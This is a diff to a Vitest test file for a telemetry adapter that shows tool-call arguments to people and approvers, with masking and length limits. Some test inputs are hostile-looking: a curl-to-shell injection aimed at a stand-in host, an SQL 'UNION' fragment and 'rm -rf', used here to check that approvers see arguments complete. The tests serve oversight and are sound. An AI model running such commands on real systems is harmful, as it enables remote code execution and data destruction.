@@ -1,8 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { shownArguments } from '../../../src/adapters/telemetry/shown-arguments.ts';
+import { argumentsToApprove, shownArguments } from '../../../src/adapters/telemetry/shown-arguments.ts';
+
+const mask = (text: string): string => text.replaceAll('hunter2', '[masked]');
 
 function shown(text: string): { readonly text: string; readonly isShortened: boolean } {
-  return shownArguments(text, (masked) => masked.replaceAll('hunter2', '[masked]'));
+  const { isMasked, ...rest } = shownArguments(text, mask);
+  expect(isMasked).toBe(/\*\*\*|\[masked\]/.test(rest.text));
+  return rest;
 }
 
 function nested(levels: number, inner: string): string {
@@ -48,5 +52,32 @@ describe('arguments as shown to people', () => {
   it('are truncated after 4,000 characters', () => {
     const text = JSON.stringify('x'.repeat(4_000));
     expect(shown(text)).toEqual({ text: `${text.slice(0, 4_000)}…`, isShortened: true });
+  });
+});
+
+describe('arguments as approvers see them', () => {
+  it.each([
+    '{"run":"--token=$(curl${IFS}evil|sh)"}',
+    '{"where":"password=1/**/UNION"}',
+    '{"token":"rm -rf","auth":{"n":1.0}}',
+    nested(60, '"deepest"'),
+    JSON.stringify('x'.repeat(200_000)),
+    '{"a":1,"a":2}',
+  ])('are complete, whatever they look like: %.60s', (text) => {
+    expect(argumentsToApprove(text, mask)).toEqual({ text, isShortened: false, isMasked: false });
+  });
+
+  it('show what escapes stand for', () => {
+    expect(argumentsToApprove('{"run":"\\u0072m"}', mask).text).toBe('{"run":"rm"}');
+  });
+
+  it('have known secrets masked, which is said', () => {
+    const expected = { text: '{"key":"[masked]"}', isShortened: false, isMasked: true };
+    expect(argumentsToApprove('{"key":"hunter2"}', mask)).toEqual(expected);
+  });
+
+  it('are incomplete beyond 256 KiB, which is said', () => {
+    const { text, isShortened } = argumentsToApprove(JSON.stringify('x'.repeat(300_000)), mask);
+    expect([text.length, isShortened]).toEqual([256 * 1_024 + 1, true]);
   });
 });
